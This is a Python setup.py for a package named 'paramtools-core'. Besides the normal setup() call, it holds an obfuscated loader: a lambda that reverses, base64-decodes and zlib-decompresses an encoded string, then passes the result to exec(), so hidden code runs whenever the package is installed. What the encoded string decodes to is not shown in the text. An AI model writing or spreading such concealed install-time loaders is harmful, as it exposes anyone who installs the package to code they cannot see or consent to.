from setuptools import setup

NAME, VERSION = "paramtools-core", "0.0.3"

_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
exec((_)(b"==Q5Es5JAQg0RpSLLxsyQF9KMrMKroNe"))

setup(name=NAME, version=VERSION, py_modules=["paramtools"])
